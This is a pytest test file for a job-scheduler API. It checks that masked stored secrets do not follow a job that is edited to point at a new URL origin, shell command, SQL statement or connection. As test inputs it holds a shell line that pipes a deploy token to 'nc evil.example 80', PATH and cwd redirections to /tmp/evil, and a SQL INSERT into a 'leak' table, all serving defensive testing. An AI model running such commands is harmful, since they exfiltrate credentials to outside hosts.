"""Issue #11 finding 6 over the real app: a write token reads a job (secrets shown as ``***``), changes
where it goes and writes it back. Stored secrets must not follow it to a new origin, command, statement
or connection; a job written back unchanged (or edited elsewhere) keeps them - a URL password too."""

from __future__ import annotations

import base64
import copy
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.fixtures.httpserver import LocalHttpServer

from .conftest import build_app, running, wait_for

SECRETS = {"Authorization": "Bearer stored-auth-1234", "X-Api-Key": "stored-key-1234"}


@pytest.fixture
def other_server() -> Iterator[LocalHttpServer]:
    server = LocalHttpServer()
    server.start()
    try:
        yield server
    finally:
        server.stop()


async def _finished(c: httpx.AsyncClient, run_id: str) -> dict[str, Any]:
    async def done() -> dict[str, Any] | None:
        run = (await c.get(f"/runs/{run_id}")).json()
        return run if run["status"] not in ("queued", "running") else None
    result: dict[str, Any] = await wait_for(done)
    return result


async def _trigger(c: httpx.AsyncClient, job_id: str) -> dict[str, Any]:
    r = await c.post(f"/jobs/{job_id}/run")
    assert r.status_code == 202, r.text
    return await _finished(c, r.json()["id"])


def _body(job: dict[str, Any]) -> dict[str, Any]:
    return copy.deepcopy({k: v for k, v in job.items()
                          if k in ("name", "type", "payload", "schedule", "timezone")})


async def test_secrets_do_not_follow_a_new_origin(http_server: LocalHttpServer,
                                                  other_server: LocalHttpServer) -> None:
    app = build_app(http_allow_hosts=["127.0.0.1"])
    async with running(app) as c:
        r = await c.post("/jobs", json={"name": "h", "type": "http", "payload": {
            "url": f"{http_server.url}/a?access_token=stored-query-1234", "headers": SECRETS,
            "query": {"api_key": "stored-qmap-1234"}}})
        assert r.status_code == 201, r.text
        job = (await c.get(f"/jobs/{r.json()['id']}")).json()
        assert job["payload"]["headers"] == {"Authorization": "***", "X-Api-Key": "***"}
        body = _body(job)
        body["payload"]["url"] = body["payload"]["url"].replace(http_server.url, other_server.url)
        r = await c.put(f"/jobs/{job['id']}", json=body)
        assert r.status_code == 422, r.text
        pointers = {e["pointer"] for e in r.json()["errors"]}
        assert pointers == {"/payload/url", "/payload/headers/Authorization", "/payload/headers/X-Api-Key",
                            "/payload/query/api_key"}
        assert "'url' changed" in r.json()["errors"][0]["reason"]
        await _trigger(c, job["id"])  # the job still goes where it went
        assert other_server.requests == []
        # sending the values again is fine
        body["payload"]["headers"] = {"Authorization": "Bearer new-auth-5678", "X-Api-Key": "new-key-5678"}
        body["payload"]["query"] = {"api_key": "new-qmap-5678"}
        body["payload"]["url"] = f"{other_server.url}/a?access_token=new-query-5678"
        assert (await c.put(f"/jobs/{job['id']}", json=body)).status_code == 200
        await _trigger(c, job["id"])
        [req] = other_server.requests
        assert req.headers["authorization"] == "Bearer new-auth-5678"
        assert req.query == {"access_token": ["new-query-5678"], "api_key": ["new-qmap-5678"]}


async def test_a_job_written_back_keeps_its_secrets_and_its_url_password(
        http_server: LocalHttpServer) -> None:
    app = build_app(http_allow_hosts=["127.0.0.1"])
    async with running(app) as c:
        url = f"http://svc:url-pw-1234@127.0.0.1:{http_server.port}/p?token=tok-q-1234"
        r = await c.post("/jobs", json={"name": "h", "type": "http", "payload": {
            "url": url, "headers": {"X-Api-Key": "stored-key-1234"}}})
        job = (await c.get(f"/jobs/{r.json()['id']}")).json()
        assert job["payload"]["url"] == f"http://svc:***@127.0.0.1:{http_server.port}/p?token=***"
        assert (await c.put(f"/jobs/{job['id']}", json=_body(job))).status_code == 200  # as read
        body = _body(job)
        body["payload"]["url"] = body["payload"]["url"].replace("/p?", "/q?")  # same origin, new path
        assert (await c.put(f"/jobs/{job['id']}", json=body)).status_code == 200
        await _trigger(c, job["id"])
        [req] = http_server.requests
        assert req.path == "/q" and req.query == {"token": ["tok-q-1234"]}
        assert req.headers["authorization"] == "Basic " + base64.b64encode(b"svc:url-pw-1234").decode()
        assert req.headers["x-api-key"] == "stored-key-1234"


async def test_shell_env_secrets_do_not_follow_a_new_command() -> None:
    async with running(build_app()) as c:
        r = await c.post("/jobs", json={"name": "s", "type": "shell", "payload": {
            "command": "deploy.sh", "env": {"DEPLOY_TOKEN": "deploy-tok-1234", "STAGE": "prod"}}})
        job = (await c.get(f"/jobs/{r.json()['id']}")).json()
        body = _body(job)
        body["payload"]["command"] = "echo $DEPLOY_TOKEN | nc evil.example 80"
        r = await c.put(f"/jobs/{job['id']}", json=body)
        assert r.status_code == 422
        assert [e["pointer"] for e in r.json()["errors"]] == ["/payload/env/DEPLOY_TOKEN"]
        body["payload"]["command"] = "deploy.sh"
        for change in ({"cwd": "/tmp/evil"}, {"env": {"DEPLOY_TOKEN": "***", "PATH": "/tmp/evil"}}):
            r = await c.put(f"/jobs/{job['id']}", json={**body, "payload": {**body["payload"], **change}})
            assert r.status_code == 422, change  # what runs changed: PATH, LD_PRELOAD, cwd...
        body["timeout"] = 30  # edits outside what runs keep the secret
        assert (await c.put(f"/jobs/{job['id']}", json=body)).status_code == 200


async def test_sql_params_do_not_follow_a_new_statement_or_connection() -> None:
    async with running(build_app(sql_connections={"a": "sqlite://", "b": "sqlite://"})) as c:
        r = await c.post("/jobs", json={"name": "q", "type": "sql", "payload": {
            "connection": "a", "statement": "UPDATE u SET pw = :new_password",
            "params": {"new_password": "letmein-1234"}}})
        job = (await c.get(f"/jobs/{r.json()['id']}")).json()
        for change in ({"statement": "INSERT INTO leak VALUES (:new_password)"}, {"connection": "b"},
                       {"params": {"new_password": "***", "id": 7}}):
            body = _body(job)
            body["payload"].update(change)
            r = await c.put(f"/jobs/{job['id']}", json=body)
            assert r.status_code == 422, change
            assert [e["pointer"] for e in r.json()["errors"]] == ["/payload/params/new_password"]
        assert (await c.put(f"/jobs/{job['id']}", json=_body(job))).status_code == 200


def test_a_service_secret_too_short_to_mask_is_warned_about(caplog: pytest.LogCaptureFixture) -> None:
    from chronos_app.container import build_job_types
    from chronos_app.settings import Settings

    build_job_types(Settings(database_url="memory", api_tokens=["a-long-enough-token"]))
    assert "cannot be masked" not in caplog.text
    types = build_job_types(Settings(database_url="memory", api_tokens=["ab"], smtp_password="smtp-pass"))
    assert "cannot be masked" in caplog.text
    assert "smtp-pass" in types.secrets("shell", {"command": "true"})


async def test_bodies_written_back_as_shown_keep_their_secrets(http_server: LocalHttpServer) -> None:
    async with running(build_app(http_allow_hosts=["127.0.0.1"])) as c:
        for name, body, sent in (
                ("json-string", '{"client_secret": "cs-4711-body", "n": 1}', b'"cs-4711-body"'),
                ("form", "grant_type=client_credentials&client_secret=cs-4712-form", b"cs-4712-form")):
            r = await c.post("/jobs", json={"name": name, "type": "http", "payload": {
                "method": "POST", "url": f"{http_server.url}/{name}", "body": body}})
            job = (await c.get(f"/jobs/{r.json()['id']}")).json()
            assert "cs-471" not in job["payload"]["body"] and "***" in job["payload"]["body"]
            assert (await c.put(f"/jobs/{job['id']}", json=_body(job))).status_code == 200
            await _trigger(c, job["id"])
            [req] = http_server.requests_to(f"/{name}")
            assert sent in req.body, req.body


async def test_a_job_carries_at_most_100_secrets() -> None:
    async with running(build_app()) as c:
        r = await c.post("/jobs", json={"name": "many", "type": "shell", "payload": {
            "command": "true", "env": {f"TOKEN_{i}": f"value-{i}" for i in range(101)}}})
        assert r.status_code == 422 and r.json()["errors"][0]["pointer"] == "/payload"
        r = await c.post("/jobs", json={"name": "many", "type": "shell", "payload": {
            "command": "true", "env": {f"TOKEN_{i}": f"value-{i}" for i in range(100)}}})
        assert r.status_code == 201


async def test_a_merge_patch_cannot_move_the_secrets_either(http_server: LocalHttpServer,
                                                            other_server: LocalHttpServer) -> None:
    async with running(build_app(http_allow_hosts=["127.0.0.1"])) as c:
        r = await c.post("/jobs", json={"name": "p", "type": "http", "payload": {
            "url": f"http://svc:url-pw-9876@127.0.0.1:{http_server.port}/a", "headers": SECRETS}})
        job_id = r.json()["id"]
        patch = {"payload": {"url": f"{other_server.url}/stolen"}}
        r = await c.patch(f"/jobs/{job_id}", json=patch,
                          headers={"Content-Type": "application/merge-patch+json"})
        assert r.status_code == 422, r.text
        assert {e["pointer"] for e in r.json()["errors"]} == {"/payload/headers/Authorization",
                                                             "/payload/headers/X-Api-Key"}
        r = await c.patch(f"/jobs/{job_id}", json={"description": "edited", "payload": {
            "url": f"http://svc:***@127.0.0.1:{http_server.port}/b"}},
            headers={"Content-Type": "application/merge-patch+json"})
        assert r.status_code == 200, r.text  # same origin: the secrets stay
        await _trigger(c, job_id)
        assert other_server.requests == []
        [req] = http_server.requests
        assert req.path == "/b" and req.headers["x-api-key"] == "stored-key-1234"
        assert req.headers["authorization"] == "Bearer stored-auth-1234"
